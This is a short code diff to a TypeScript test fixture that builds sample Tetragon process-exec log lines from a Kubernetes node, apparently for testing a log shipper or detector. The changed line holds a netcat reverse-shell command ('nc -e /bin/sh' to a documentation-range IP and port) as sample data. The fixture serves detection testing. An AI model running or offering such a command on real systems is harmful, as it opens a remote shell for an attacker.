@@ -192,7 +192,7 @@ export function shipperSamples(): FieldSample[] {
       logStream: "tetragon-abcde_kube-system_export-stdout-19a02291",
       messages: [
         criLine(
-          tetragonExec({ binary: "/tmp/nc", arguments: "-e /bin/sh 198.51.100.23 4444", cwd: "/tmp" }, [
+          tetragonExec({ binary: "/tmp/nc", arguments: "-e /bin/sh 198.51.100.24 4445", cwd: "/tmp" }, [
             { binary: "/bin/bash", arguments: "-i" },
           ]),
           "2026-11-28T10:33:00.274015231Z",
